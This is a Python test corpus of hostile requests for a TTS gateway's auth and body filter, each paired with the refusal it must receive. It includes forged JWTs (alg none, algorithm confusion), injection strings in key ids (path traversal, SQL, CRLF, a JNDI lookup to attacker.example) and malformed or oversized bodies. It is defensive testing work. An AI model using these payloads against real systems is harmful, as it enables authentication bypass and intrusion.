"""The hostile-input corpus: requests that attackers and broken clients send to the voxgate
listener, each with the answer it must get.

Every case names the status and the error code of the JSON answer. Where Envoy answers itself
(431 for oversized headers, 400 for what its HTTP/1 codec refuses, 408 for a stalled client),
its local_reply_config gives the same JSON shape, with Envoy's codes (`headers_too_large`,
`malformed_request`, …) and Envoy's own text as the message, which the case names too.
`forwarded` cases are the few the filter must let through (valid requests dressed up as hostile
ones); every other case must never reach the sidecar. `alternatives` lists other answers that
are just as correct, where Envoy itself decides between them (a body streamed past the limit can
hit Envoy's buffer limit before the filter's own 413 is sent: both refuse, neither forwards).
`background` cases wait on one of Envoy's timeouts, so the test runs them concurrently with the
rest.

Each submitted text contains MARKER, which the secrets test later looks for in every log.
The requests are built when a case runs (`Case.request(kit)`), with tokens from the session's keys.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import uuid
from dataclasses import dataclass
from typing import Callable

import jwt
from cryptography.hazmat.primitives import serialization

from rawhttp import Piece, chunked, request_bytes
from tools import devkeys, devtoken

MARKER = "quokka"
TEXT = f"The purple {MARKER} sings."
VOICE = "en_US-joe-medium"
SPEECH = "/v1/audio/speech"
COQUI = "/api/tts"
MODELS = "/v1/models"
HOST = ("host", "voxgate.test")
JSON = ("content-type", "application/json")
FORM = ("content-type", "application/x-www-form-urlencoded")
# A header the hostile Envoy accepts a raw token in, besides `Authorization: Bearer`.
TOKEN_HEADER = "x-api-token"
# Identities a client claims through `x-voxgate-*`; none may ever be forwarded as the subject.
SPOOFED_SUBJECTS = ("admin", "root", "system:internal")
# Envoy's own answers (envoy/envoy.yaml.in, local_reply_config): code, and the message where it
# is fixed.
ENVOY_431 = ("headers_too_large", "Request Header Fields Too Large")
ENVOY_413 = ("body_too_large", "Payload Too Large")


def envoy_400(detail: str = "http1.codec_error") -> tuple:
    """Envoy's 400, naming the check that refused the request."""
    return ("malformed_request", f"malformed request ({detail})")


class Kit:
    """What a case needs to build its request: fresh subjects, tokens and keys of the session."""

    def __init__(self, stack, filter_config: dict):
        self.stack = stack
        self.keys = stack.keys
        self.max_body_bytes = filter_config["text"]["max_body_bytes"]
        self.max_token_bytes = filter_config["auth"]["max_token_bytes"]
        self.max_chars = filter_config["text"]["max_chars"]

    @staticmethod
    def subject() -> str:
        return f"hostile-{uuid.uuid4().hex[:12]}"

    def token(self, **kwargs) -> str:
        kwargs.setdefault("sub", self.subject())
        return self.stack.token(**kwargs)

    def kid(self, alg: str) -> str:
        return self.keys.key(alg).kid

    def private(self, alg: str):
        return self.keys.key(alg).private

    def claims(self, **overrides) -> dict:
        """Valid claims with a fresh subject; an override of None removes the claim."""
        payload = devtoken.claims(sub=self.subject())
        for name, value in overrides.items():
            if value is None:
                payload.pop(name, None)
            else:
                payload[name] = value
        return payload

    def header(self, alg: str = "ES256", **overrides) -> dict:
        header = {"alg": alg, "typ": "JWT", "kid": self.kid(alg if alg in devkeys.KEY_FILES else "ES256")}
        for name, value in overrides.items():
            if value is None:
                header.pop(name, None)
            else:
                header[name] = value
        return header

    def signed(self, header: dict | bytes | None = None, claims: dict | bytes | None = None,
               key=None, alg: str | None = None) -> str:
        """A compact JWS over exactly these header and claims bytes, signed with the dev key
        of `alg` (the header's) unless another key is given."""
        header = self.header() if header is None else header
        claims = self.claims() if claims is None else claims
        alg = alg or header["alg"]
        key = key if key is not None else self.private(alg)
        return jws(header, claims, alg, key)

    def public_pem(self, alg: str) -> bytes:
        return self.private(alg).public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _json_bytes(value: dict | bytes | str) -> bytes:
    if isinstance(value, bytes):
        return value
    if isinstance(value, str):
        return value.encode("utf-8")
    return json.dumps(value, separators=(",", ":")).encode("utf-8")


def jws(header, claims, alg: str, key) -> str:
    signing_input = f"{b64(_json_bytes(header))}.{b64(_json_bytes(claims))}".encode("ascii")
    digests = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
    if alg in digests:
        signature = hmac.new(key, signing_input, digests[alg]).digest()
    else:
        signature = jwt.get_algorithm_by_name(alg).sign(signing_input, key)
    return f"{signing_input.decode('ascii')}.{b64(signature)}"


def token_of_length(kit: Kit, length: int) -> str:
    """A valid token of at most `length` bytes and within 2 of it (a padding claim grows the
    token by 4 characters for every 3 bytes, so not every length can be hit exactly)."""
    pad = 0
    token = kit.signed(claims=kit.claims(pad=""))
    while len(token) < length - 2:
        pad += max(1, (length - 2 - len(token)) * 3 // 4)
        token = kit.signed(claims=kit.claims(pad="p" * pad))
    while len(token) > length:
        pad -= 1
        token = kit.signed(claims=kit.claims(pad="p" * pad))
    return token


def with_segment(token: str, index: int, segment: str) -> str:
    parts = token.split(".")
    parts[index] = segment
    return ".".join(parts)


# --- request builders -----------------------------------------------------------------------

def bearer(token: str) -> tuple:
    return ("authorization", f"Bearer {token}")


def get(path: str, *headers) -> bytes:
    return request_bytes("GET", path, [HOST, *headers])


def models_with(token: str, *headers) -> bytes:
    return get(MODELS, bearer(token), *headers)


def speech_fields(text: str = TEXT, **fields) -> dict:
    return {"model": "tts-1", "input": text, "voice": VOICE, "response_format": "wav", **fields}


def speech_json(text: str = TEXT, ascii_only: bool = False, **fields) -> bytes:
    return json.dumps(speech_fields(text, **fields), ensure_ascii=ascii_only).encode("utf-8")


def speech(kit: Kit, body: bytes, *headers, content_type: tuple | None = JSON, path: str = SPEECH) -> bytes:
    own = [HOST, bearer(kit.token())] + ([content_type] if content_type else [])
    return request_bytes("POST", path, own + list(headers), body)


def speech_head(kit: Kit, *headers) -> bytes:
    """Request line and headers only (the body follows in other pieces)."""
    return request_bytes("POST", SPEECH, [HOST, bearer(kit.token()), JSON, *headers])


def coqui_get(kit: Kit, query: str, *headers) -> bytes:
    return get(f"{COQUI}?{query}", bearer(kit.token()), *headers)


def raw(text: bytes) -> Callable[[Kit], bytes]:
    return lambda kit: text


@dataclass(frozen=True)
class Case:
    category: str
    name: str
    request: Callable[[Kit], bytes | list]
    status: int
    code: str | None = None
    message: str | None = None
    forwarded: bool = False
    alternatives: tuple = ()
    head: bool = False
    background: bool = False

    @property
    def id(self) -> str:
        return f"{self.category}-{self.name}"

    def answers(self) -> list[tuple]:
        """Every acceptable (status, code, message); a message of None is not checked."""
        return [(self.status, self.code, self.message), *self.alternatives]


def refused(category: str, name: str, request, status: int, code: str, **kw) -> Case:
    return Case(category, name, request, status, code=code, **kw)


def envoy(category: str, name: str, request, status: int, answer: tuple, **kw) -> Case:
    """Envoy answers itself, before the filter decides: `answer` is (code, message)."""
    code, message = answer
    return Case(category, name, request, status, code=code, message=message, **kw)


def passes(category: str, name: str, request, status: int = 200, code: str | None = None, **kw) -> Case:
    """The filter lets it through; the answer comes from the sidecar."""
    return Case(category, name, request, status, code=code, forwarded=True, **kw)


# --- tokens ---------------------------------------------------------------------------------

def _token_cases() -> list[Case]:
    def bad(name, make, code="token_malformed", status=401):
        return refused("token", name, lambda k: models_with(make(k)), status, code)

    def ok(name, make):
        return passes("token", name, lambda k: models_with(make(k)))

    def sig_none(k, alg_name):
        return with_segment(k.signed(), 0, b64(_json_bytes({"alg": alg_name, "typ": "JWT"})))

    cases = [
        # alg: none and friends: refused before any key is looked at.
        bad("alg_none_empty_signature", lambda k: k.token(alg="none", kid=k.kid("ES256"))),
        bad("alg_none_with_signature",
            lambda k: jws({"alg": "none", "typ": "JWT"}, k.claims(), "HS256", b"x"), "algorithm_not_allowed"),
        bad("alg_NONE_uppercase", lambda k: sig_none(k, "NONE"), "algorithm_not_allowed"),
        bad("alg_None_mixed_case", lambda k: sig_none(k, "None"), "algorithm_not_allowed"),
        bad("alg_empty", lambda k: sig_none(k, ""), "algorithm_not_allowed"),
        bad("alg_missing", lambda k: k.signed(header={"typ": "JWT", "kid": k.kid("ES256")}, alg="ES256")),
        bad("alg_number", lambda k: k.signed(header=k.header() | {"alg": 256}, alg="ES256")),
        bad("alg_with_trailing_space", lambda k: k.signed(header=k.header() | {"alg": "ES256 "}, alg="ES256"),
            "algorithm_not_allowed"),
        bad("alg_unknown_es256k", lambda k: k.signed(header=k.header() | {"alg": "ES256K"}, alg="ES256"),
            "algorithm_not_allowed"),
        bad("alg_unknown_hs1", lambda k: k.signed(header=k.header() | {"alg": "HS1"}, alg="ES256"),
            "algorithm_not_allowed"),
        # Algorithm confusion: a public key used as an HMAC secret never verifies anything.
        bad("hs256_signed_with_rsa_public_pem",
            lambda k: k.signed(header=k.header("HS256", kid=k.kid("RS256")), key=k.public_pem("RS256")),
            "algorithm_not_allowed"),
        bad("hs256_signed_with_ec_public_pem",
            lambda k: k.signed(header=k.header("HS256", kid=k.kid("ES256")), key=k.public_pem("ES256")),
            "algorithm_not_allowed"),
        bad("hs256_signed_with_rsa_jwk_json",
            lambda k: k.signed(header=k.header("HS256", kid=k.kid("RS256")),
                               key=json.dumps(k.keys.key("RS256").jwk).encode()), "algorithm_not_allowed"),
        bad("hs256_signed_with_ed25519_public_raw",
            lambda k: k.signed(header=k.header("HS256", kid=k.kid("EdDSA")), key=k.private("EdDSA").public_key()
                               .public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)),
            "algorithm_not_allowed"),
        bad("hs256_signed_with_rsa_public_pem_no_kid",
            lambda k: k.signed(header=k.header("HS256", kid=None), key=k.public_pem("RS256")), "bad_signature"),
        bad("rs256_header_on_es256_key", lambda k: k.signed(header=k.header("RS256", kid=k.kid("ES256"))),
            "algorithm_not_allowed"),
        bad("es256_header_on_hmac_key", lambda k: k.signed(header=k.header("ES256", kid=k.kid("HS256"))),
            "algorithm_not_allowed"),
        bad("es384_header_on_es256_key", lambda k: k.signed(header=k.header("ES384", kid=k.kid("ES256"))),
            "algorithm_not_allowed"),
        bad("eddsa_header_on_rsa_key", lambda k: k.signed(header=k.header("EdDSA", kid=k.kid("RS256"))),
            "algorithm_not_allowed"),
        # Signatures that do not match.
        bad("eddsa_foreign_key", lambda k: k.signed(header=k.header("EdDSA"), key=devkeys.generate_private("EdDSA")),
            "bad_signature"),
        bad("rs256_foreign_key", lambda k: k.signed(header=k.header("RS256"), key=devkeys.generate_private("RS256")),
            "bad_signature"),
        bad("hs256_other_secret", lambda k: k.signed(header=k.header("HS256"), key=b"s" * 32), "bad_signature"),
        bad("hs256_empty_secret", lambda k: k.signed(header=k.header("HS256"), key=b""), "bad_signature"),
        bad("es256_zero_signature", lambda k: with_segment(k.signed(), 2, b64(bytes(64))), "bad_signature"),
        bad("es256_truncated_signature", lambda k: with_segment(k.signed(), 2, b64(bytes(10))), "bad_signature"),
        bad("payload_tampered_after_signing",
            lambda k: with_segment(k.signed(), 1, b64(_json_bytes(k.claims(sub="admin")))), "bad_signature"),
        bad("signature_of_another_token",
            lambda k: with_segment(k.signed(), 2, k.signed().split(".")[2]), "bad_signature"),
        # Key ids that are not keys: lookups, never paths, queries or templates.
        *[bad(f"kid_{name}", lambda k, kid=kid: k.signed(header=k.header(kid=kid)), "unknown_key") for name, kid in [
            ("unknown", "nope"),
            ("path_traversal", "../../../../etc/passwd"),
            ("absolute_path", "/dev/zero"),
            ("sql_injection", "' OR '1'='1' --"),
            ("sql_stacked", "1; DROP TABLE keys; --"),
            ("jndi_lookup", "${jndi:ldap://attacker.example/a}"),
            ("url", "https://attacker.example/jwks.json"),
            ("nul_byte", "dev\u0000key"),
            ("crlf", "dev\r\nx-injected: 1"),
            ("empty", ""),
            ("4000_chars", "k" * 4000),
        ]],
        bad("kid_case_changed", lambda k: k.signed(header=k.header(kid=k.kid("ES256").upper())), "unknown_key"),
        bad("kid_number", lambda k: k.signed(header=k.header(kid=None) | {"kid": 7})),
        bad("kid_null", lambda k: k.signed(header=k.header(kid=None) | {"kid": None})),
        bad("kid_array", lambda k: k.signed(header=k.header(kid=None) | {"kid": [k.kid("ES256")]})),
        # Size.
        envoy("token", "token_100kb", lambda k: models_with("e" * 100_000), 431, ENVOY_431),
        bad("token_50kb", lambda k: "e" * 50_000, "token_too_large"),
        bad("token_one_byte_over_limit", lambda k: "e" * (k.max_token_bytes + 1), "token_too_large"),
        ok("token_at_the_size_limit", lambda k: token_of_length(k, k.max_token_bytes)),
        # Encoding and structure.
        bad("standard_base64_alphabet", lambda k: k.signed().replace("-", "+").replace("_", "/") + "+/"),
        bad("base64_padding", lambda k: ".".join(s + "==" for s in k.signed().split("."))),
        bad("bang_in_payload", lambda k: with_segment(k.signed(), 1, "ey!!")),
        bad("segment_length_1_mod_4", lambda k: with_segment(k.signed(), 0, "eyJhb")),
        bad("two_segments", lambda k: ".".join(k.signed().split(".")[:2])),
        bad("four_segments", lambda k: k.signed() + ".e30"),
        bad("five_segments_jwe_shape", lambda k: "eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d"),
        bad("empty_payload", lambda k: with_segment(k.signed(), 1, "")),
        bad("only_dots", lambda k: ".."),
        bad("not_a_jwt", lambda k: "not.a.jwt"),
        bad("space_inside_token", lambda k: k.signed()[:20] + " " + k.signed()[20:]),
        bad("non_ascii_in_token", lambda k: with_segment(k.signed(), 1, "éé")),
        refused("token", "bearer_without_token", raw(get(MODELS, ("authorization", "Bearer"))), 401,
                "token_malformed"),
        # Header and claims that are not (unique-member) JSON objects.
        bad("header_not_json", lambda k: k.signed(header=b"not json at all", alg="ES256")),
        bad("header_json_array", lambda k: k.signed(header=b'["ES256"]', alg="ES256")),
        bad("header_json_string", lambda k: k.signed(header=b'"ES256"', alg="ES256")),
        bad("header_duplicate_alg",
            lambda k: k.signed(header=f'{{"alg":"none","alg":"ES256","kid":"{k.kid("ES256")}"}}'.encode(),
                               alg="ES256")),
        bad("header_with_bom", lambda k: k.signed(header=b"\xef\xbb\xbf" + _json_bytes(k.header()), alg="ES256")),
        bad("header_crit_extension", lambda k: k.signed(header=k.header() | {"crit": ["exp"], "exp": 1})),
        bad("claims_not_json", lambda k: k.signed(claims=b"sub=admin")),
        bad("claims_json_array", lambda k: k.signed(claims=b'[{"sub":"admin"}]')),
        bad("claims_duplicate_sub",
            lambda k: k.signed(claims=_json_bytes(k.claims())[:-1] + b',"sub":"admin"}')),
        bad("claims_duplicate_exp",
            lambda k: k.signed(claims=_json_bytes(k.claims())[:-1] + b',"exp":99999999999}')),
        bad("claims_nested_300_deep", lambda k: k.signed(claims=_json_bytes(k.claims())[:-1]
                                                         + b',"x":' + b"[" * 300 + b"]" * 300 + b"}")),
        bad("claims_invalid_utf8", lambda k: k.signed(claims=_json_bytes(k.claims())[:-1] + b',"x":"\xff\xfe"}')),
        # Time claims.
        bad("exp_string", lambda k: k.signed(claims=k.claims(exp="9999999999"))),
        bad("exp_negative", lambda k: k.signed(claims=k.claims(exp=-1))),
        bad("exp_boolean", lambda k: k.signed(claims=k.claims() | {"exp": True})),
        bad("exp_null", lambda k: k.signed(claims=k.claims() | {"exp": None})),
        bad("exp_object", lambda k: k.signed(claims=k.claims(exp={"$gt": 0}))),
        # A signed expiry however far away is the issuer's word: no maximum lifetime, no overflow.
        ok("exp_1e300", lambda k: k.signed(claims=k.claims(exp=1e300))),
        ok("exp_2_pow_64", lambda k: k.signed(claims=k.claims(exp=2 ** 64))),
        ok("exp_u64_max", lambda k: k.signed(claims=k.claims(exp=2 ** 64 - 1))),
        bad("exp_missing", lambda k: k.signed(claims=k.claims(exp=None)), "expiry_missing"),
        bad("exp_zero", lambda k: k.signed(claims=k.claims(exp=0)), "token_expired"),
        bad("exp_beyond_skew", lambda k: k.token(exp=-600), "token_expired"),
        ok("exp_within_skew", lambda k: k.token(exp=-20)),
        bad("nbf_far_future", lambda k: k.token(nbf=86_400 * 365), "token_not_yet_valid"),
        bad("nbf_string", lambda k: k.signed(claims=k.claims(nbf="0"))),
        bad("iat_far_future", lambda k: k.token(iat=86_400), "token_issued_in_future"),
        bad("iat_string", lambda k: k.signed(claims=k.claims(iat="now"))),
        # typ.
        bad("typ_jws", lambda k: k.signed(header=k.header(typ="JWS"))),
        bad("typ_jose", lambda k: k.signed(header=k.header(typ="JOSE"))),
        bad("typ_number", lambda k: k.signed(header=k.header(typ=1))),
        bad("typ_jwt_plus_suffix", lambda k: k.signed(header=k.header(typ="JWT+evil"))),
        ok("typ_lowercase_jwt", lambda k: k.signed(header=k.header(typ="jwt"))),
        ok("typ_at_plus_jwt", lambda k: k.signed(header=k.header(typ="at+jwt"))),
        ok("typ_absent", lambda k: k.signed(header=k.header(typ=None))),
        ok("kid_absent_key_found_by_algorithm", lambda k: k.signed(header=k.header(kid=None))),
        # Issuer, subject, audience, scope.
        bad("iss_missing", lambda k: k.signed(claims=k.claims(iss=None)), "wrong_issuer"),
        bad("iss_number", lambda k: k.signed(claims=k.claims(iss=1))),
        bad("iss_trailing_slash", lambda k: k.token(iss=devtoken.DEV_ISSUER + "/"), "wrong_issuer"),
        bad("iss_attacker", lambda k: k.token(iss="https://attacker.example"), "wrong_issuer"),
        bad("sub_missing", lambda k: k.signed(claims=k.claims(sub=None)), "subject_missing"),
        bad("sub_empty", lambda k: k.token(sub=""), "subject_missing"),
        bad("sub_number", lambda k: k.signed(claims=k.claims(sub=42))),
        bad("sub_object", lambda k: k.signed(claims=k.claims(sub={"id": "admin"}))),
        bad("sub_with_crlf", lambda k: k.token(sub="alice\r\nx-voxgate-plan: pro")),
        bad("sub_with_nul", lambda k: k.token(sub="alice\u0000")),
        bad("sub_surrounding_spaces", lambda k: k.token(sub=" alice ")),
        # Characters that would forge or disguise a log line or the forwarded subject.
        bad("sub_with_right_to_left_override", lambda k: k.token(sub="alice\u202enimda")),
        bad("sub_with_line_separator", lambda k: k.token(sub="alice\u2028voxgate: refused reason=x")),
        bad("sub_with_paragraph_separator", lambda k: k.token(sub="alice\u2029")),
        bad("sub_with_lone_zero_width_space", lambda k: k.token(sub="ad\u200bmin")),
        bad("sub_with_bidi_isolates", lambda k: k.token(sub="\u2066alice\u2069")),
        bad("sub_with_next_line", lambda k: k.token(sub="alice\u0085")),
        bad("sub_longer_than_a_header_value", lambda k: k.token(sub="s" * 300)),
        bad("aud_missing", lambda k: k.token(aud=None), "wrong_audience", status=403),
        bad("aud_empty_list", lambda k: k.token(aud=[]), "wrong_audience", status=403),
        bad("aud_other", lambda k: k.token(aud="another-service"), "wrong_audience", status=403),
        bad("aud_list_with_number", lambda k: k.token(aud=["voxgate", 1])),
        bad("aud_object", lambda k: k.signed(claims=k.claims(aud={"voxgate": True}))),
        ok("aud_list_containing_ours", lambda k: k.token(aud=["other", devtoken.DEV_AUDIENCE])),
        bad("scope_missing", lambda k: k.token(scope=None), "insufficient_scope", status=403),
        bad("scope_number", lambda k: k.signed(claims=k.claims(scope=7)), "insufficient_scope", status=403),
        bad("scope_prefix_only", lambda k: k.token(scope="ttsx"), "insufficient_scope", status=403),
        bad("scope_wrong_case", lambda k: k.token(scope="TTS"), "insufficient_scope", status=403),
        ok("scp_array", lambda k: k.signed(claims=k.claims(scope=None, scp=["read", "tts"]))),
    ]
    return cases


def _token_placement_cases() -> list[Case]:
    def case(name, make_headers, status=401, code=None, **kw):
        request = lambda k: get(MODELS, *make_headers(k))  # noqa: E731
        if kw.pop("forwarded", False):
            return passes("token", name, request, status, code)
        return refused("token", name, request, status, code, **kw)

    return [
        # Envoy joins repeated Authorization headers into one value, "Bearer a, Bearer b": not a token.
        case("authorization_twice", lambda k: [bearer(k.token()), bearer(k.token())], code="token_malformed"),
        case("authorization_twice_same_token",
             lambda k: [bearer(t := k.token()), bearer(t)], code="token_malformed"),
        case("two_tokens_in_one_header",
             lambda k: [("authorization", f"Bearer {k.token()}, Bearer {k.token()}")], code="token_malformed"),
        case("bearer_and_token_header", lambda k: [bearer(k.token()), (TOKEN_HEADER, k.token())],
             code="token_ambiguous"),
        case("token_header_twice", lambda k: [(TOKEN_HEADER, k.token()), (TOKEN_HEADER, k.token())],
             code="token_ambiguous"),
        case("token_header_with_bearer_prefix", lambda k: [(TOKEN_HEADER, f"Bearer {k.token()}")],
             code="token_malformed"),
        case("token_header_alone", lambda k: [(TOKEN_HEADER, k.token())], 200, forwarded=True),
        case("basic_auth_beside_token_header",
             lambda k: [("authorization", "Basic YWRtaW46YWRtaW4="), (TOKEN_HEADER, k.token())], 200,
             forwarded=True),
        case("basic_scheme", lambda k: [("authorization", "Basic YWRtaW46YWRtaW4=")],
             code="auth_scheme_unsupported"),
        case("token_scheme", lambda k: [("authorization", f"Token {k.token()}")], code="auth_scheme_unsupported"),
        case("empty_authorization", lambda k: [("authorization", "")], code="auth_scheme_unsupported"),
        case("lowercase_bearer", lambda k: [("authorization", f"bearer {k.token()}")], 200, forwarded=True),
        case("extra_spaces_around_token", lambda k: [("authorization", f"Bearer    {k.token()}   ")], 200,
             forwarded=True),
        case("token_in_cookie_only", lambda k: [("cookie", f"access_token={k.token()}")], code="token_missing"),
        refused("token", "token_in_query_only", lambda k: get(f"{MODELS}?access_token={k.token()}"), 401,
                "token_missing"),
    ]


# --- bodies ---------------------------------------------------------------------------------

def _body_cases() -> list[Case]:
    def bad(name, body, code, status=400, **kw):
        make = body if callable(body) else (lambda k, b=body: b)
        return refused("body", name, lambda k: speech(k, make(k)), status, code, **kw)

    def text_with(char: str) -> bytes:
        return speech_json(f"The purple {MARKER}{char} sings.")

    cases = []
    # Invalid UTF-8, in the text and elsewhere.
    for name, bytes_ in [("lone_continuation_byte", b"\x80"), ("truncated_sequence", b"\xc3"),
                         ("overlong_slash", b"\xc0\xaf"), ("overlong_nul", b"\xc0\x80"),
                         ("utf8_encoded_surrogate", b"\xed\xa0\x80"), ("above_u10ffff", b"\xf4\x90\x80\x80"),
                         ("byte_ff", b"\xff"), ("latin1_e_acute", b"caf\xe9")]:
        cases.append(bad(f"invalid_utf8_{name}",
                         b'{"input": "' + MARKER.encode() + b" " + bytes_ + b'", "voice": "' + VOICE.encode() + b'"}',
                         "invalid_utf8"))
    cases.append(bad("invalid_utf8_in_a_key", b'{"inp\xffut": "' + MARKER.encode() + b'"}', "invalid_utf8"))
    cases.append(bad("utf16_body", json.dumps(speech_fields()).encode("utf-16"), "invalid_utf8"))
    # NUL and other control characters.
    cases += [
        bad("raw_nul_in_string", b'{"input": "' + MARKER.encode() + b'\x00"}', "malformed_json"),
        bad("escaped_nul", speech_json(f"{MARKER}\u0000 sings", ascii_only=True), "forbidden_character"),
        bad("escaped_bell", speech_json(f"{MARKER}\u0007", ascii_only=True), "forbidden_character"),
        bad("escaped_escape", speech_json(f"{MARKER}\u001b[31m", ascii_only=True), "forbidden_character"),
        bad("delete_char", text_with("\u007f"), "forbidden_character"),
        bad("c1_next_line", text_with("\u0085"), "forbidden_character"),
    ]
    # Bidirectional controls and invisible characters, raw and escaped.
    bidi = {"rlo": "\u202e", "lro": "\u202d", "rle": "\u202b", "lre": "\u202a", "pdf": "\u202c",
            "lri": "\u2066", "rli": "\u2067", "fsi": "\u2068", "pdi": "\u2069", "lrm": "\u200e",
            "rlm": "\u200f", "alm": "\u061c"}
    cases += [bad(f"bidi_{name}", text_with(char), "forbidden_character") for name, char in bidi.items()]
    cases.append(bad("bidi_rlo_escaped", speech_json(f"{MARKER}\u202e", ascii_only=True), "forbidden_character"))
    invisible = {"zwsp": "\u200b", "zwnj": "\u200c", "zwj": "\u200d", "word_joiner": "\u2060",
                 "bom": "\ufeff", "soft_hyphen": "\u00ad", "mongolian_vs": "\u180e", "tag_a": "\U000e0041",
                 "interlinear_anchor": "\ufff9", "hangul_filler": "\u3164"}
    cases += [bad(f"invisible_{name}", text_with(char), "forbidden_character") for name, char in invisible.items()]
    cases += [bad(f"noncharacter_{name}", text_with(char), "forbidden_character")
              for name, char in {"fffe": "\ufffe", "fdd0": "\ufdd0", "10ffff": "\U0010ffff"}.items()]
    cases += [
        bad("lone_surrogate_escape", b'{"input": "' + MARKER.encode() + b'\\ud800"}', "malformed_json"),
        bad("reversed_surrogate_pair", b'{"input": "' + MARKER.encode() + b'\\udc00\\ud800"}', "malformed_json"),
    ]
    # Size.
    five_mb = b'{"input": "' + MARKER.encode() * (5_000_000 // len(MARKER)) + b'"}'
    cases += [
        bad("five_megabytes_declared", five_mb, "body_too_large", 413),
        refused("body", "five_megabytes_chunked",
                lambda k: speech(k, chunked(five_mb, 65_536), ("transfer-encoding", "chunked")), 413,
                "body_too_large", alternatives=((413, *ENVOY_413),)),
        bad("one_byte_over_the_limit", lambda k: speech_json().ljust(k.max_body_bytes + 1, b" "),
            "body_too_large", 413),
        refused("body", "one_byte_over_the_limit_chunked",
                lambda k: speech(k, chunked(speech_json().ljust(k.max_body_bytes + 1, b" "), 1000),
                                 ("transfer-encoding", "chunked")), 413, "body_too_large"),
        refused("body", "declared_five_megabytes_never_sent",
                lambda k: speech_head(k, ("content-length", "5000000")), 413, "body_too_large"),
        passes("body", "large_padded_body_within_every_limit",
               lambda k: speech(k, speech_json().ljust(50_000, b" "))),
    ]
    # Nesting.
    cases += [
        bad("arrays_129_deep", b'{"input": "' + MARKER.encode() + b'", "x": ' + b"[" * 129 + b"]" * 129 + b"}",
            "malformed_json"),
        bad("arrays_20000_deep", b'{"x": ' + b"[" * 20_000 + b"]" * 20_000 + b"}", "malformed_json"),
        bad("objects_5000_deep", b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "malformed_json"),
        bad("input_is_nested_arrays", b'{"input": ' + b"[" * 200 + b"]" * 200 + b"}", "malformed_json"),
    ]
    # Duplicate keys: two parsers could read two different texts.
    t = json.dumps(TEXT)
    cases += [
        bad("duplicate_input", f'{{"input": {t}, "input": "unchecked {MARKER}"}}'.encode(), "duplicate_field"),
        bad("duplicate_voice", f'{{"input": {t}, "voice": "{VOICE}", "voice": "x"}}'.encode(), "duplicate_field"),
        bad("duplicate_speed", f'{{"input": {t}, "speed": 1, "speed": 9}}'.encode(), "duplicate_field"),
        bad("duplicate_after_unescaping", f'{{"input": {t}, "\\u0069nput": "unchecked"}}'.encode(),
            "duplicate_field"),
        bad("duplicate_nested", f'{{"input": {t}, "x": {{"k": 1, "k": 2}}}}'.encode(), "duplicate_field"),
    ]
    # Wrong types and missing fields.
    for name, fields in [("input_number", {"input": 42}), ("input_array", {"input": [TEXT]}),
                         ("input_object", {"input": {"text": TEXT}}),
                         ("input_true", {"input": True}), ("voice_number", {"voice": 1}),
                         ("speed_string", {"speed": "1.0"}), ("speed_boolean", {"speed": True}),
                         ("response_format_number", {"response_format": 1}), ("model_number", {"model": 1}),
                         ("stream_string", {"stream": "yes"})]:
        cases.append(bad(f"wrong_type_{name}", json.dumps(speech_fields(**fields)).encode(), "invalid_type"))
    cases += [
        bad("missing_everything", b"{}", "missing_field"),
        bad("missing_input", json.dumps({"model": "tts-1", "voice": VOICE}).encode(), "missing_field"),
        bad("null_input", json.dumps(speech_fields(input=None)).encode(), "missing_field"),
    ]
    # Not one JSON object.
    one = json.dumps(speech_fields()).encode()
    for name, body in [("trailing_text", one + b" trailing"), ("two_objects", one + one),
                       ("trailing_comma", one[:-1] + b",}"), ("single_quotes", one.replace(b'"', b"'")),
                       ("nan_speed", one[:-1] + b', "speed": NaN}'),
                       ("infinite_speed", one[:-1] + b', "speed": Infinity}'),
                       ("speed_1e400", one[:-1] + b', "speed": 1e400}'), ("comment", b"/* hi */" + one),
                       ("unquoted_key", b'{input: "' + MARKER.encode() + b'"}'),
                       ("byte_order_mark", b"\xef\xbb\xbf" + one),
                       ("empty_body", b""), ("truncated", one[: len(one) // 2])]:
        cases.append(bad(f"garbage_{name}", body, "malformed_json"))
    for name, body in [("array", b'["' + MARKER.encode() + b'"]'), ("string", b'"' + MARKER.encode() + b'"'),
                       ("number", b"42"), ("null", b"null")]:
        cases.append(bad(f"top_level_{name}", body, "invalid_body"))
    # Text, voice, speed and format rules.
    cases += [
        bad("text_only_whitespace", speech_json(" \t\n "), "empty_input"),
        bad("text_empty", speech_json(""), "empty_input"),
        bad("text_one_over_the_limit", lambda k: speech_json(MARKER + "a" * (k.max_chars + 1 - len(MARKER))),
            "input_too_long"),
        bad("text_over_the_limit_in_emoji", lambda k: speech_json(MARKER + "\U0001F600" * k.max_chars),
            "input_too_long"),
        *[bad(f"speed_{name}", json.dumps(speech_fields(speed=speed)).encode(), "invalid_speed")
          for name, speed in [("zero", 0), ("negative", -1), ("huge", 1e308), ("just_above", 4.0001),
                              ("negative_zero", -0.0)]],
        *[bad(f"voice_{name}", json.dumps(speech_fields(voice=voice)).encode(), "unknown_voice")
          for name, voice in [("path_traversal", "../../../etc/passwd"), ("empty", ""), ("nul", f"{VOICE}\u0000"),
                              ("other_case", VOICE.upper())]],
        *[bad(f"format_{name}", json.dumps(speech_fields(response_format=fmt)).encode(),
              "unsupported_response_format")
          for name, fmt in [("aac", "aac"), ("traversal", "../wav"), ("unknown", "ogg")]],
    ]
    # Content types the speech route does not read.
    for name, content_type in [("missing", None), ("text_plain", ("content-type", "text/plain")),
                               ("json_latin1", ("content-type", "application/json; charset=latin1")),
                               ("two_types", ("content-type", "application/json, text/plain")),
                               ("multipart", ("content-type", "multipart/form-data; boundary=x")), ("form", FORM)]:
        cases.append(refused("body", f"content_type_{name}",
                             lambda k, ct=content_type: speech(k, speech_json(), content_type=ct), 415,
                             "unsupported_media_type"))
    # Valid requests in unusual shapes: let through, and spoken.
    cases += [
        passes("body", "valid_escaped_non_ascii", lambda k: speech(k, speech_json(f"{MARKER} café", ascii_only=True))),
        passes("body", "valid_emoji_and_accents", lambda k: speech(k, speech_json(f"{MARKER} crème brûlée 🎉"))),
        passes("body", "valid_with_expect_100_continue",
               lambda k: speech(k, speech_json(), ("expect", "100-continue"))),
    ]
    # The Coqui API: parameters in the query string or a form body.
    q = f"text={MARKER}"
    cases += [
